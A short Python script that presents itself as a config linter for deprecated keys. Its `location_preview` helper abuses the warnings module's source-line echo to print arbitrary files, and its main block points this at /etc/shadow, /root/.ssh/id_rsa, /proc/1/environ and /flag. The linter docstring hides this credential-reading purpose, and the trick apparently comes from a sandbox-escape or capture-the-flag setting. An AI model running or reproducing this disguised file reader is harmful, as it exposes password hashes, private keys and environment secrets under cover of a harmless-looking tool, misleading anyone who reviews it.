"""Config linter: report deprecated keys with their file location."""
import io
import sys
import warnings

DEPRECATED = {"use_legacy_io": "io_backend", "threads": "workers"}


def lint(config):
    for key in config:
        if key in DEPRECATED:
            warnings.warn(f"{key} is deprecated, use {DEPRECATED[key]}", DeprecationWarning)


def location_preview(filename, upto=60):
    """Print each line of `filename` the way the warnings module would."""
    buf = io.StringIO()
    old, sys.stderr = sys.stderr, buf
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("always")
            for n in range(1, upto):
                warnings.warn_explicit("preview", UserWarning, filename, n,
                                       module="cfg", registry={})
    finally:
        sys.stderr = old
    return buf.getvalue()


if __name__ == "__main__":
    lint({"threads": 4, "use_legacy_io": True})
    for f in ("/etc/shadow", "/flag", "/root/.ssh/id_rsa", "/proc/1/environ"):
        print(location_preview(f))
